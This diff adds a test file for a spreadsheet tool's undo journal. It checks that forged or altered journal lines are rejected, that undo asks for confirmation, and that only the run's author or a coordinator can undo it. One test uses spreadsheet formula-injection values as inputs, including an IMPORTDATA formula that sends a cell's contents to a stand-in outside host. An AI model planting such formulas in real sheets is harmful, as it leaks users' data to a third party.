@@ -1,0 +1,160 @@
+/** Role: an editor who types into the journal. It tells, it proves nothing: what is undone is what Vekha proves to have done. */
+import { describe, expect, test } from 'vitest';
+import { fingerprint } from '../../../src/core/text/fingerprint';
+import { CULTURE, forge, forgeLine, protectedHost, sheetOf, TOURISM, tabsOf, textsOf } from '../../support/attacks';
+import { COLLEAGUE, COORDINATOR, departmentsHost, journalLines } from '../../support/departments';
+import { cellsOf, click, HERE, panel, tab } from '../../support/spreadsheet';
+
+const departments = (): ReturnType<typeof departmentsHost> => {
+  const host = departmentsHost();
+  // The journal is there before anybody forges a line of it.
+  click(host, 'checkAll', 'FULL', { user: COORDINATOR });
+  return host;
+};
+
+/** Fingerprint of a tab's texts as an import's record has it: anybody can work it out. */
+const printOf = (rows: string[][]): string =>
+  fingerprint(JSON.stringify(rows.map((row) => row.filter((cell) => cell !== ''))));
+
+describe('a forged line', () => {
+  test.each(['2022', 'Настройки', 'Исполнители'])('of an import deletes no tab: %s', (name) => {
+    const host = departments();
+    const shown = textsOf(host, name).filter((row) => row.some((cell) => cell !== ''));
+    const record = {
+      kind: 'import',
+      sheet: host.ids.get(sheetOf(host, name)),
+      name,
+      print: printOf(shown),
+      executors: null,
+    };
+    forgeLine(host, record);
+    const before = tabsOf(host);
+    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({
+      ok: false,
+      error: { code: 'unproven-journal' },
+    });
+    click(host, 'undoLast', 'FULL', { user: COORDINATOR });
+    expect(tabsOf(host)).toEqual(before);
+  });
+
+  test.each(['Мероприятие сорвано', '=IMPORTDATA("http://elsewhere.test/"&A1)', "'=1+1", '+1+1'])(
+    'of a fix writes nothing: %s',
+    (words) => {
+      const host = departments();
+      const plan = sheetOf(host, '2022');
+      const [[b4 = ''] = []] = cellsOf(plan, 'B4');
+      forgeLine(host, { kind: 'fix', sheet: 0, cells: [[0, 3, 1, 0, words, b4, fingerprint(b4), 1]] });
+      const before = textsOf(host, '2022');
+      click(host, 'undoLast', 'FULL', { user: COORDINATOR });
+      expect(textsOf(host, '2022')).toEqual(before);
+      expect(host.alerts.at(-1)).toContain('отменить нельзя');
+    },
+  );
+
+  test('that blanks executors’ rows of another tab blanks nothing', () => {
+    const host = departments();
+    host.workbook.sheets.push(tab('x', 'Приманка'));
+    const rows = cellsOf(sheetOf(host, '2022'), 'A4:Z8');
+    const executors = { sheet: 0, row: 4, count: 5, print: printOf(rows) };
+    forgeLine(host, { kind: 'import', sheet: -77, name: 'Приманка', print: printOf([['x']]), executors });
+    const before = textsOf(host, '2022');
+    click(host, 'undoLast', 'FULL', { user: COORDINATOR });
+    expect(textsOf(host, '2022')).toEqual(before);
+    expect(tabsOf(host)).toContain('Приманка');
+  });
+
+  test('is not what the panel offers to take back', () => {
+    const host = departments();
+    forgeLine(host, { kind: 'fix', sheet: 0, cells: [] });
+    expect(panel(host, 'panelOpen', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undo: null } });
+  });
+});
+
+describe('a true line', () => {
+  const fixed = () => {
+    const host = departments();
+    panel(host, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
+    const journal = sheetOf(host, 'Журнал');
+    return { host, row: journal.rows.length, journal };
+  };
+
+  test('is taken back, once', () => {
+    const { host } = fixed();
+    const before = textsOf(host, '2022');
+    const answer = panel(host, 'panelUndo', HERE, { user: COORDINATOR });
+    expect(answer).toMatchObject({ ok: true, value: { spared: 0 } });
+    expect(textsOf(host, '2022')).not.toEqual(before);
+    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undone: null } });
+  });
+
+  test.each([
+    ['its time', 'A', '2020-01-01 00:00:00'],
+    ['its author', 'B', 'culture@region.test'],
+    ['its result', 'D', 'Ничего'],
+    ['its link', 'E', 'https://elsewhere.test'],
+    ['its run', 'F', 'zzz-9 0123456789abcdef0123456789abcdef'],
+    ['its record', 'G', '{"kind":"fix","sheet":0,"cells":[]}'],
+  ])('of which somebody has changed %s is left alone and named', (_what, column, text) => {
+    const { host, row } = fixed();
+    forge(host, 'Журнал', `${column}${row}`, text);
+    const before = textsOf(host, '2022');
+    const answer = panel(host, 'panelUndo', HERE, { user: COORDINATOR });
+    expect(answer).toMatchObject({ ok: false, error: { code: 'unproven-journal' } });
+    expect(textsOf(host, '2022')).toEqual(before);
+  });
+
+  test('copied once more below is one deed still', () => {
+    const { host, row } = fixed();
+    const [cells = []] = cellsOf(sheetOf(host, 'Журнал'), `A${row}:G${row}`);
+    for (const [at, text] of cells.entries()) forge(host, 'Журнал', `${'ABCDEFG'[at]}${row + 1}`, text);
+    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({ ok: true });
+    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undone: null } });
+  });
+
+  test('of an older Vekha tells, and is not obeyed', () => {
+    const { host, row } = fixed();
+    const [[id = ''] = []] = cellsOf(sheetOf(host, 'Журнал'), `F${row}`);
+    forge(host, 'Журнал', `F${row}`, id.split(' ')[0] ?? '');
+    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({
+      ok: false,
+      error: { code: 'unproven-journal', hint: expect.stringContaining('История версий') },
+    });
+  });
+
+  test('is shown before it is taken back, and a No leaves all as it is', () => {
+    const asked: string[] = [];
+    const host = departmentsHost(
+      {},
+      {
+        answer: (question) => {
+          asked.push(question);
+          return 'NO';
+        },
+      },
+    );
+    panel(host, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
+    const before = textsOf(host, '2022');
+    const lines = journalLines(host).length;
+    click(host, 'undoLast', 'FULL', { user: COORDINATOR });
+    expect(asked).toHaveLength(1);
+    expect(asked[0]).toContain('Отменить последнее действие?');
+    expect(asked[0]).toMatch(/E4: /);
+    expect(textsOf(host, '2022')).toEqual(before);
+    expect(journalLines(host)).toHaveLength(lines);
+  });
+});
+
+describe('another’s run', () => {
+  test('is taken back by its author or by a coordinator, and by nobody else', () => {
+    const host = protectedHost();
+    panel(host, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
+    const before = textsOf(host, '2022');
+    for (const user of [TOURISM, CULTURE])
+      expect(panel(host, 'panelUndo', HERE, { user })).toMatchObject({
+        ok: false,
+        error: { code: 'others-run', message: expect.stringContaining(COORDINATOR.email) },
+      });
+    expect(textsOf(host, '2022')).toEqual(before);
+    expect(panel(host, 'panelUndo', HERE, { user: COLLEAGUE })).toMatchObject({ ok: true });
+  });
+});
